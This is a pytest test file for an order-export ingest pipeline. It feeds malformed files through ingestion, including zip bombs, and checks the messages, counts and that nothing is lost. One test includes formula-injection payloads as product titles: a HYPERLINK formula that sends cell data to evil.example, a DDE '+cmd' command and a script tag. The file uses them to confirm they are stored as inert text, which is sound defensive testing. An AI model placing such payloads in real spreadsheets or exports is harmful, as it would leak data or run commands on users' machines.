"""The bad input corpus: every malformed input in tests/fixtures/bad_inputs/ (plus a 10 MB single
field and two zip bombs built here) goes through one real ingest run, and each ends with a
clear message naming the file (and the row and column where there is one), and nothing lost:
rows read = loaded + rejected, nothing half-loaded, and each inbox file either loaded (its bytes
in landing) or moved aside with a reason file beside it."""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from decimal import Decimal

import pytest

from flows import pipeline
from flows.warehouse.db import open_warehouse

from .conftest import BAD_INPUTS, write_project
from .make_bad_inputs import build_generated


@dataclass(frozen=True)
class Case:
    name: str
    status: str  # loaded | refused | unrecognised | ignored
    says: tuple[str, ...] = ()  # fragments of the outcome's message
    counts: tuple[int, int, int] | None = None  # rows read, loaded, rejected
    rejects: tuple[tuple[int | None, str | None, str], ...] = ()  # (row, column, reason fragment)
    shop: str = "tmall_flagship"


BIG = "ten_mb_field_ExportOrderList_2026-11-22.csv"
CASES = [
    Case("empty.csv", "unrecognised", ("the file is empty",)),
    Case("blank_lines_only.csv", "unrecognised", ("the file is empty",)),
    Case("header_only_ExportOrderList_2026-11-22.csv", "loaded", ("no data rows",), (0, 0, 0)),
    Case("truncated_mid_row_ExportOrderList_2026-11-22.csv", "loaded", (), (2, 1, 1),
         ((3, None, "expected 39 fields like the header, found 18"),)),
    Case("truncated_in_quotes_ExportOrderList_2026-11-22.csv", "unrecognised", ("row 3: broken CSV quoting",)),
    Case("binary_garbage.csv", "unrecognised", ("binary data, not a text export",)),
    Case("garbage_high_bytes.csv", "unrecognised", ("not UTF-8 text", "not GBK/GB18030")),
    Case("wrong_encoding_mojibake.csv", "unrecognised", ("unrecognised export", "headers look garbled")),
    Case("duplicate_mapped_header_ExportOrderList.csv", "refused", ("column '订单编号' appears 2 times",)),
    Case("duplicate_unmapped_header_ExportOrderList.csv", "loaded", (), (1, 1, 0)),
    Case("amounts_negative_nan_huge_ExportOrderList_2026-11-22.csv", "loaded", (), (7, 2, 5), (
        (3, "买家实际支付金额", "not an amount of money"), (4, "买家实际支付金额", "not an amount of money"),
        (5, "买家实际支付金额", "not an amount of money"), (6, "买家实际支付金额", "not an amount of money"),
        (7, "买家实际支付金额", "required value (paid_amount) is empty"))),
    Case("dates_1900_2100_ExportOrderList_2026-11-22.csv", "loaded", (), (6, 2, 4), (
        (2, "订单创建时间", "outside 1990–2099"), (3, "订单创建时间", "outside 1990–2099"),
        (4, "订单付款时间", "not a date and time"), (5, "订单创建时间", "not a date and time"))),
    Case("script_and_formula_titles_ExportOrderList_2026-11-22.csv", "loaded", (), (4, 4, 0)),
    Case("two_platforms_in_one_file.csv", "loaded", (), (5, 2, 3), (
        (4, None, "the header of another export (Shopify orders export) inside the data"),
        (5, None, "expected 39 fields"), (6, None, "expected 39 fields"))),
    Case("header_repeated_ExportOrderList_2026-11-22.csv", "loaded", (), (3, 2, 1),
         ((3, None, "the header row again inside the data"),)),
    Case("orders_export_wrong_shop.csv", "refused", ("shop tmall_flagship is a tmall shop", "Shopify")),
    Case("xlsx_renamed_to.csv", "loaded", ("(xlsx)",), (1, 1, 0)),
    Case("csv_renamed_to.xlsx", "loaded", ("(gb18030)",), (1, 1, 0)),
    Case("pdf_renamed_to.csv", "unrecognised", ("this is a PDF document, not an export",)),
    Case("orders.csv.gz", "unrecognised", ("not an export file type",)),
    Case("订单 报表 (1) 2026-11-22.csv", "loaded", (), (1, 1, 0)),
    Case("坏 文件 (2).csv", "unrecognised", ("binary data",)),
    Case("unknown_columns.csv", "unrecognised", ("headers found: 订单编号, 金额, 备注", "Closest profile: taobao_orders",
                                                 "missing column(s): 订单创建时间")),
    Case("unknown_status_ExportOrderList_2026-11-22.csv", "loaded", (), (2, 1, 1),
         ((2, "订单状态", "unknown value for status"),)),
    Case("excel_mangled_ids_ExportOrderList_2026-11-22.csv", "loaded", (), (3, 2, 1),
         ((2, "订单编号", "already turned into a number"),)),
    Case("title_rows_only.csv", "unrecognised", ("no known profile matches",)),
    Case("one_column.txt", "unrecognised", ("no known profile matches",)),
    Case("cr_only_ExportOrderList_2026-11-22.csv", "loaded", (), (1, 1, 0)),
    Case("trailing_commas_ExportOrderList_2026-11-22.csv", "loaded", (), (2, 2, 0)),
    Case("nul_after_4kb.csv", "unrecognised", ("line 3: a NUL byte inside the text",)),
    Case("two_exports.zip", "unrecognised", ("a zip archive holding 2 exports", "unzip it")),
    Case("计划报表_20261122_073000.zip", "loaded", ("(zip/utf-8-sig)",), (1, 1, 0)),
    Case("broken_zip.xlsx", "unrecognised", ("broken zip container",)),
    Case("【生意参谋平台】商品_全部_2026-11-15_2026-11-21.csv", "refused",
         ("no date column", "covers 2026-11-15 to 2026-11-21 as one total")),
    Case("formulas_ExportOrderList_2026-11-22.xlsx", "loaded", (), (3, 2, 1),
         ((3, "买家实际支付金额", "required value (paid_amount) is empty"),)),
    Case("data_on_second_sheet_ExportOrderList_2026-11-22.xlsx", "loaded", (), (1, 1, 0)),
    Case("no_table.xls", "unrecognised", ("an HTML page without a table",)),
    Case("xml_spreadsheet_ExportOrderList_2026-11-22.xls", "loaded", ("(xml)",), (1, 1, 0)),
    Case("utf16_no_bom_ExportOrderList_2026-11-22.csv", "loaded", ("(utf-16-le)",), (1, 1, 0)),
    Case("shopify_missing_paid_at.csv", "refused", ("required column is missing", "'Paid at' (paid_at)"),
         shop="shopify_us"),
    Case("strict_erp_orders.csv", "refused", ("refuses the whole file on a bad row",), (2, 0, 2),
         ((3, "erp_amount", "not an amount of money"),)),
    Case("~$locked.xlsx", "ignored"),
    Case("orders_export_2026-11-22.csv.crdownload", "ignored"),
    # built at test time
    Case(BIG, "loaded", (), (3, 2, 1), ((3, "宝贝标题", "value too long"),)),
    Case("zip_bomb_declared.xlsx", "unrecognised", ("expands to 3840 MB", "zip bomb")),
    Case("zip_bomb_ratio.xlsx", "unrecognised", ("expands 1029 times", "zip bomb")),
]
BY_NAME = {c.name: c for c in CASES}

STRICT_PROFILE = """\
name = "strict_erp"
title = "Strict ERP orders"
entity = "orders"
signature = ["erp_order", "erp_amount"]
on_bad_row = "reject_file"

[columns.order_id]
source = "erp_order"
not_empty = true

[columns.paid_amount]
source = "erp_amount"
type = "decimal"

[columns.created_at]
source = "erp_time"
type = "timestamp"
"""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    root = tmp_path_factory.mktemp("bad")
    (root / "profiles").mkdir()
    (root / "profiles" / "strict_erp.toml").write_text(STRICT_PROFILE, encoding="utf-8")
    settings = write_project(root, profiles_dir="profiles")
    originals = {}
    for path in BAD_INPUTS.iterdir():
        shop = BY_NAME[path.name].shop if path.name in BY_NAME else "tmall_flagship"
        target = settings.inbox_dir / shop / path.name
        shutil.copyfile(path, target)
        originals[path.name] = path.read_bytes()
    for path in build_generated(settings.inbox_dir / "tmall_flagship").values():
        originals[path.name] = path.read_bytes()
    report = pipeline.ingest(settings)
    outcomes = {o.path.name: o for o in report.outcomes}
    return settings, outcomes, originals


def q(settings, sql, params=None):
    with open_warehouse(settings.warehouse_path, read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def test_the_corpus_has_at_least_30_malformed_inputs_each_with_an_outcome():
    committed = {p.name for p in BAD_INPUTS.iterdir()}
    assert committed <= set(BY_NAME), f"no asserted outcome for {sorted(committed - set(BY_NAME))}"
    assert len(CASES) >= 30 and len(BY_NAME) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_outcome_and_message(corpus, case):
    settings, outcomes, _ = corpus
    if case.status == "ignored":
        assert case.name not in outcomes
        assert (settings.inbox_dir / case.shop / case.name).exists(), "left alone in the inbox"
        return
    outcome = outcomes[case.name]
    line = outcome.line()
    assert outcome.status == case.status, line
    assert case.name in line and case.shop in line, "the message names the file"
    for fragment in case.says:
        assert fragment in line, line
    if case.counts is not None:
        assert (outcome.rows_read, outcome.rows_loaded, outcome.rows_rejected) == case.counts, line
    got = q(settings, "select source_row, column_name, reason from rejects where file_name = ? "
                      "order by source_row, column_name", [case.name])
    assert len(got) == len(case.rejects), got
    for (row, column, reason), want in zip(got, case.rejects):
        assert (row, column) == want[:2] and want[2] in reason, (row, column, reason)


@pytest.mark.parametrize("case", [c for c in CASES if c.status != "ignored"], ids=lambda c: c.name)
def test_nothing_is_lost(corpus, case):
    settings, outcomes, originals = corpus
    outcome = outcomes[case.name]
    inbox = settings.inbox_dir / case.shop
    assert not (inbox / case.name).exists(), "no file stays half-handled in the inbox"
    files = q(settings, "select source_file_id, status, rows_read, rows_loaded, rows_rejected, landing_path "
                        "from source_files where file_name = ?", [case.name])
    events = q(settings, "select level, message from ingest_events where file_name = ?", [case.name])
    assert len(events) == 1 and case.name in events[0][1]
    if outcome.status == "loaded":
        ((file_id, status, read, loaded, rejected, landing),) = files
        assert status == "loaded" and read == loaded + rejected
        assert open(landing, "rb").read() == originals[case.name], "the original bytes are kept in landing"
        (n_raw,), = q(settings, f"select count(*) from raw_{outcome.entity} where source_file_id = ?", [file_id])
        (n_rejected_rows,), = q(settings, "select count(distinct source_row) from rejects where source_file_id = ?",
                                [file_id])
        assert n_raw == loaded and n_rejected_rows == rejected
        assert events[0][0] == ("warning" if rejected else "info")
    else:
        aside = inbox / "_rejected" / case.name
        assert aside.read_bytes() == originals[case.name], "moved aside whole, not deleted"
        reason = (aside.parent / (case.name + ".reason.txt")).read_text(encoding="utf-8")
        for fragment in case.says:
            assert fragment in reason
        assert events[0][0] == "error"
        if files:  # a profile that refuses a whole file on one bad row: recorded, nothing loaded
            ((file_id, status, read, loaded, rejected, _),) = files
            assert status == "refused" and loaded == 0 and read == rejected
            assert q(settings, f"select count(*) from raw_{outcome.entity} where source_file_id = ?",
                     [file_id]) == [(0,)]
            assert "row 3, column erp_amount: not an amount of money — value 'ten'" in reason


def test_values_that_are_odd_but_valid_load_as_written(corpus):
    settings, _, _ = corpus
    got = dict(q(settings, "select order_id, paid_amount from raw_orders where order_id in "
                           "('3856201234567890310', '3856201234567890316')"))
    assert got == {"3856201234567890310": Decimal("-10.00"), "3856201234567890316": Decimal("1234.50")}, \
        "a negative amount is data (staging warns on it); ￥1,234.50 is 1234.50"
    assert q(settings, "select strftime(created_at, '%Y-%m-%d') from raw_orders where order_id = '3856201234567890324'") \
        == [("2099-12-31",)]


def test_titles_with_markup_or_formulas_are_stored_as_text_never_evaluated(corpus):
    settings, _, _ = corpus
    titles = [r[0] for r in q(settings, "select product_name from raw_orders where order_id between "
                                        "'3856201234567890330' and '3856201234567890333' order by order_id")]
    assert titles == ["<script>alert(1)</script>围巾", '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")',
                      "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    # in a real spreadsheet, a formula's saved value is read, never the formula
    got = q(settings, "select order_id, paid_amount, product_name from raw_orders where order_id like '385620123456789044%' "
                      "order by order_id")
    assert got == [("3856201234567890440", Decimal("99.50"), "保温杯 500ml"),
                   ("3856201234567890442", Decimal("99.00"), "点我")]


def test_a_ten_mb_field_is_rejected_or_ignored_but_never_stored(corpus):
    settings, _, _ = corpus
    assert q(settings, "select order_id from raw_orders where order_id like '38562012345678905%' order by 1") == [
        ("3856201234567890500",), ("3856201234567890502",)], "10 MB in an unmapped column does not matter"
    (shown,), = q(settings, "select raw_value from rejects where file_name = ?", [BIG])
    assert len(shown) < 600 and shown.endswith("(3495253 characters)")
    assert settings.warehouse_path.stat().st_size < 8 * 2**20


def test_a_zipped_download_loads_from_inside_the_zip(corpus):
    settings, _, _ = corpus
    assert q(settings, "select campaign_id, campaign, cost from raw_ad_spend") == [
        ("30009", "压缩包里的计划", Decimal("20.00"))]


def test_a_second_run_changes_nothing(corpus):
    settings, _, _ = corpus
    before = q(settings, "select count(*) from source_files"), q(settings, "select count(*) from raw_orders")
    report = pipeline.ingest(settings)
    assert report.outcomes == [], "files set aside are not retried; lock files and downloads stay ignored"
    assert (q(settings, "select count(*) from source_files"), q(settings, "select count(*) from raw_orders")) == before


def test_files_outside_the_inbox_under_a_path_with_spaces_and_chinese(tmp_path):
    (tmp_path / "项目 目录").mkdir()
    settings = write_project(tmp_path / "项目 目录")
    downloads = tmp_path / "我的 下载 (2026)"
    downloads.mkdir()
    good = downloads / "订单 报表 (1) 2026-11-22.csv"
    bad = downloads / "坏 文件 (2).csv"
    shutil.copyfile(BAD_INPUTS / good.name, good)
    shutil.copyfile(BAD_INPUTS / bad.name, bad)
    report = pipeline.ingest(settings, [downloads], shop_id="tmall_flagship")
    statuses = {o.path.name: o.status for o in report.outcomes}
    assert statuses == {good.name: "loaded", bad.name: "unrecognised"}
    assert good.exists() and bad.exists(), "files given by path stay where they are"
    (landing,), = q(settings, "select landing_path from source_files")
    assert open(landing, "rb").read() == good.read_bytes() and "订单 报表 (1)" in landing
